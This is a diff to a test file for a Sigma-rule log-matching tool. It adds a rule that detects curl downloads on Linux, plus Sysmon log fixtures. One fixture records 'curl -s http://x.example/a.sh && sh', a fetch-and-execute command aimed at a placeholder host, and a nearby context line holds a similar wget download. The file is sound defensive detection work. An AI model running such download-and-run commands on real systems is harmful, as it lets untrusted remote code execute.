@@ -94,6 +94,19 @@ detection:
         exe|endswith: '/mknod'
     condition: selection
 """,
+    "lnx_proc.yml": """
+title: Curl download by Sysmon for Linux
+id: 22222222-0000-0000-0000-000000000004
+level: medium
+logsource:
+    product: linux
+    category: process_creation
+detection:
+    selection:
+        Image|endswith: '/curl'
+        CommandLine|contains: 'http://'
+    condition: selection
+""",
     "agg.yml": """
 title: Many failures
 id: 33333333-0000-0000-0000-000000000001
@@ -147,6 +160,8 @@ SYSLOG = """<38>Mar  3 10:00:01 host1 sshd[123]: Failed password for invalid use
 Mar  3 10:00:03 host1 bash[7]: wget http://x.example/a.sh
 type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=133 success=yes exe="/usr/bin/mknod" subj=u:r:t key=(null)\x1dARCH=x86_64 SYSCALL=mknod AUID="root"
 type=SYSCALL msg=audit(1700000000.124:43): arch=c000003e syscall=59 exe="/usr/bin/mknod"\x1dSYSCALL=execve
+Mar  3 10:00:04 host1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Channel>Linux-Sysmon/Operational</Channel><Computer>host1</Computer></System><EventData><Data Name="RuleName">-</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://x.example/a.sh &amp;&amp; sh</Data></EventData></Event>
+Mar  3 10:00:05 host1 sysmon: <Event><System><EventID>3</EventID><Channel>Linux-Sysmon/Operational</Channel></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl http://x</Data></EventData></Event>
 """
 
 
@@ -198,10 +213,11 @@ class LogwatchSigma(lt.TestCase):
             ("auth.log", 1, "22222222-0000-0000-0000-000000000001"),
             ("auth.log", 3, "22222222-0000-0000-0000-000000000002"),
             ("auth.log", 4, "22222222-0000-0000-0000-000000000003"),
+            ("auth.log", 6, "22222222-0000-0000-0000-000000000004"),
         ]))
         o = json.loads(p.stdout.splitlines()[0])
         self.assertEqual(set(o), {"event", "rule_id", "title", "level"})
-        self.assertIn("6 Regeln geladen, 3 nicht auswertbar", p.stderr)
+        self.assertIn("7 Regeln geladen, 3 nicht auswertbar", p.stderr)
         self.assertIn("kein gültiges Ereignis", p.stderr)
 
     def test_prefilter_gives_the_same_matches(self):
@@ -214,7 +230,7 @@ class LogwatchSigma(lt.TestCase):
     def test_stdin(self):
         p = sigma("--rules", self.rules, "-", stdin=SYSLOG)
         self.assertEqual(p.returncode, 0, p.stderr)
-        self.assertEqual(len(p.stdout.splitlines()), 3)
+        self.assertEqual(len(p.stdout.splitlines()), 4)
 
     def test_unsupported_listed_with_reason(self):
         p = sigma("--rules", self.rules, "--list-unsupported")
